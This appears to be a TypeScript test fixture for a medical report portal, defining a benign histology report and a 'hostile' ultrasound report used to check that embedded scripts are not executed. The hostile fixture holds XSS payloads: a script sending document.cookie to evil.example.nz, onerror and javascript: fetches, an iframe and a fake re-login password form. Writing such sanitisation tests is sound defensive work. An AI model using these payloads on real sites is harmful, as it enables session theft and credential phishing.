const base64 = (html: string) => Buffer.from(html).toString('base64')

const document = (title: string, body: string) =>
  base64(
    `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>`,
  )

export const histology = document(
  'Histology report',
  `<p><strong>Specimen:</strong> skin, left shoulder, 6 × 4 mm.</p>
  <h2>Findings</h2><ul><li>Benign naevus</li><li>No atypia</li></ul>
  <table><thead><tr><th>Margin</th><th>Distance</th></tr></thead><tbody><tr><td>Deep</td><td>1.2 mm</td></tr><tr><td>Lateral</td><td>0.8 mm</td></tr></tbody></table>
  <p>Completely excised. No further treatment.</p>`,
)

/** A report with a script, which the portal must not execute. */
export const hostile = document(
  'Ultrasound of the abdomen',
  `<p>Liver, gall bladder and kidneys are normal.</p>
  <script>document.body.textContent = 'opened'; fetch('https://evil.example.nz/' + document.cookie)</script>
  <img src="x" onerror="fetch('https://evil.example.nz/image')" alt="">
  <a href="javascript:fetch('https://evil.example.nz/link')">More</a>
  <iframe src="https://evil.example.nz/frame"></iframe>
  <form action="https://evil.example.nz/form"><input name="password"><button>Sign in again</button></form>`,
)
